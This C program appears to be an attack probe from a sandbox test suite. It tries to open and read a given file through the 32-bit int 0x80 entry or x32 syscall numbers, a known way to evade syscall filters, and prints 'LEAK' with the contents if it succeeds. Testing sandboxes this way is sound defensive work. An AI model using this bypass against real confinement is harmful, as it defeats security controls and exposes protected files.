// Opens a file through the 32-bit entry (int 0x80) or the x32 numbers: entries {int80|x32} PATH
#include <sys/mman.h>

#include "attack.h"

static long Int80(long number, long a, long b, long c) {
  long result;
  __asm__ volatile("int $0x80"
                   : "=a"(result)
                   : "a"(number), "b"(a), "c"(b), "d"(c)
                   : "memory", "r8", "r9", "r10", "r11");
  return result;
}

int main(int argc, char** argv) {
  if (argc != 3) return 2;
  char* low =
      mmap(NULL, 8192, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
  if (low == MAP_FAILED) return 1;
  strcpy(low, argv[2]);
  pid_t child = fork();  // the entry may be answered with a signal
  if (child == 0) {
    long fd, size;
    if (!strcmp(argv[1], "int80")) {
      fd = Int80(5, (long)low, O_RDONLY, 0);
      size = fd < 0 ? fd : Int80(3, fd, (long)(low + 4096), 4095);
    } else {
      fd = syscall(0x40000000 + 2, low, O_RDONLY, 0);
      if (fd < 0) fd = -errno;
      size = fd < 0 ? fd : read((int)fd, low + 4096, 4095);
    }
    Say("%s: open %ld", argv[1], fd);
    if (size > 0) Say("%s: LEAK %s", argv[1], low + 4096);
    _exit(0);
  }
  int status = 0;
  waitpid(child, &status, 0);
  Say("%s: status %d", argv[1], status);
  Done();
  return 0;
}
